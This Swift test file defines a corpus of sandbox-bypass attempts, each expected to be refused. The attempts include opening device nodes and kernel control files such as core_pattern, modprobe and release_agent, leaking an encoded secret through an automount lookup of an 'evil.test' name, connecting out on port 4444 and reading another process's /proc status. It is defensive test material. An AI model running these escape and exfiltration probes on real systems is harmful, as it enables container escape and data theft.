// SPDX-License-Identifier: Apache-2.0

import TestSupport

/// An attempt at what is neither a socket nor an address, by a line that ends with 0 when the kernel lets it pass.
private func door(
    _ title: String,
    _ words: String,
    success: Attempt.Success = .exits,
    ending: Attempt.Ending = .fails,
    accounts: [Account] = Account.allCases,
    under: [String] = [],
    stage: [String] = [],
    controller: Account? = nil,
    needs: String? = nil
) -> Attempt {
    Attempt(
        title: title,
        line: program("doors", words),
        success: success,
        ending: ending,
        accounts: accounts,
        under: under,
        stage: stage,
        controller: controller,
        needs: needs
    )
}

/// Something of the machine as standard input.
private func inheriting(_ kind: String) -> [String] {
    ["/usr/bin/python3", "$WORLD/programs/inherit.py", kind, "0"]
}

/// Devices of which a machine has some. Only root may open most of them, and inside root still owns their nodes.
private let devices = [
    "kmsg", "kvm", "vda", "sda", "nvme0n1", "loop0", "loop-control", "btrfs-control", "autofs", "net/tun",
    "vhost-vsock",
    "vhost-net", "vsock", "ttyS0", "tty1", "vcs1", "console", "cpu/0/msr", "hwrng", "userfaultfd", "mem", "port",
    "fuse",
    "mapper/control", "snapshot", "uinput", "infiniband/uverbs0", "dri/card0", "zram0", "vga_arbiter",
    "cpu_dma_latency",
]

private let victim = "$(cat $WORLD/victim-$([ $(id -u) = 0 ] && echo root || echo user).pid)"

/// First processes are ours inside, and root's outside.
private let firstProcess = [
    "limits 1", "affinity 1", "priority 1", "schedule 1", "ioprio 1", "same /proc/1/oom_score_adj",
    "same /proc/1/coredump_filter", "same /proc/1/timerslack_ns",
]

/// Files by which root rules the kernel; they are opened only.
private let controls = [
    "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
    "/proc/irq/default_smp_affinity",
    "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/kernel/uevent_helper", "/sys/kernel/debug/tracing/tracing_on",
    "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/cgroup.procs",
]

/// What a world that an ordinary user made lacks.
private let nodes = "device nodes that can be made"

/// Devices that nobody needs as a standard descriptor.
private let givenDevices = ["loop0", "kmsg", "net/tun", "fuse", "kvm"]

extension BypassCorpus {
    /// Names that the kernel asks a daemon outside for.
    static let upcalls: [Attempt] = [
        Attempt(
            title: "16 a name in the path of an automounter",
            line: "ls $PLACE/net/c2VjcmV0.evil.test",
            stage: ["autofs"],
            needs: "autofs"
        )
    ]

    /// Devices, queues and terminals of the machine.
    static let devicesAndQueues: [Attempt] =
        devices.map { name in
            door("/dev/\(name)", "device /dev/\(name)", accounts: [.root], needs: "/dev/\(name)")
        } + [
            door("writing to the kernel's log", "writable /dev/kmsg", accounts: [.root], needs: "/dev/kmsg"),
            door(
                "a kernel log's node elsewhere",
                "device $PLACE/node",
                accounts: [.root],
                stage: ["tmpfs", "node:node:c:1:11"]
            ),
            door("a disk's node elsewhere", "device $PLACE/node", stage: ["tmpfs", "node:node:b:7:0"], needs: nodes),
            door(
                "a terminal's node elsewhere",
                "device $PLACE/node",
                stage: ["tmpfs", "node:node:c:4:1"],
                needs: nodes
            ),
            door(
                "38 another terminal of the same user",
                "written $(cat $STAGE/terminal)",
                success: .arrives,
                stage: ["terminal"]
            ),
            door(
                "a message queue of the machine by name",
                "queue-by-name /egress-canary",
                success: .arrives,
                stage: ["queue"]
            ),
            door(
                "a message queue of the machine by path",
                "queue-by-path $PLACE/mqueue/egress-canary",
                success: .arrives,
                stage: ["queue"]
            ),
            door(
                "a System V message queue of the machine",
                "system-v-queue",
                success: .arrives,
                stage: ["system-v-queue"]
            ),
            door(
                "a message queue as standard input",
                "queue-given 0",
                success: .arrives,
                ending: .refused,
                under: inheriting("queue"),
                stage: ["queue"]
            ),
            door(
                "35 a process outside as standard input",
                "signalled 0",
                success: .arrives,
                ending: .refused,
                under: inheriting("process")
            ),
            Attempt(
                title: "a directory's path as standard input",
                line: "exec 9<&0 </dev/null; \(program("doors", "opened 9 ../../../proc/\(victim)/status read"))",
                success: .exits,
                ending: .refused,
                under: inheriting("path")
            ),
            Attempt(
                title: "34 a network as standard input",
                line: "nsenter --net=/proc/self/fd/0 connect-static plain \(TestWorld.deniedAddress) 4444",
                ending: .refused,
                accounts: [.root],
                under: inheriting("network")
            ),
            door("a message queue's name", "queue-made $PLACE/mqueue", stage: ["queue"]),
            door(
                "35 the process at the other end of standard input",
                "peer-signalled 0",
                ending: .refused,
                under: inheriting("pair"),
                needs: "SO_PEERPIDFD"
            ),
            door("31 a name for standard input", "named 0", ending: .refused, under: inheriting("unix")),
            door(
                "31 a service on standard input",
                "served 0 egress-served-$$",
                ending: .refused,
                under: inheriting("unix")
            ),
            Attempt(
                title: "a disk's node elsewhere as standard input",
                line: "HOLD true < $PLACE/node",
                success: .exits,
                ending: .refused,
                stage: ["tmpfs", "node:node:b:7:0"],
                needs: nodes
            ),
        ]
        + ["input", "output", "error"].enumerated().map { number, name in
            door(
                "31 a name for a connected standard \(name)",
                "named \(number)",
                ending: .refused,
                under: ["/usr/bin/python3", "$WORLD/programs/inherit.py", "pair", "\(number)"]
            )
        }
        + givenDevices.map { name in
            Attempt(
                title: "/dev/\(name) as standard input",
                line: "HOLD true < /dev/\(name)",
                success: .exits,
                ending: .refused,
                accounts: [.root],
                needs: "/dev/\(name)"
            )
        }

    /// What root could rule the kernel by.
    static let kernelFiles: [Attempt] =
        controls.map { path in
            Attempt(
                title: path,
                line: "attempt-static write \(path)",
                success: .exits,
                accounts: [.root],
                needs: path
            )
        } + [
            door(
                "a control group of version 1",
                "directory - /sys/fs/cgroup/memory/egress-run-$$",
                accounts: [.root],
                needs: "/sys/fs/cgroup/memory"
            )
        ]

    /// The first process, which is none of the command's.
    static let ofTheFirst: [Attempt] = firstProcess.map { what in
        door("35 the first process: \(what)", what, controller: .root)
    }
}
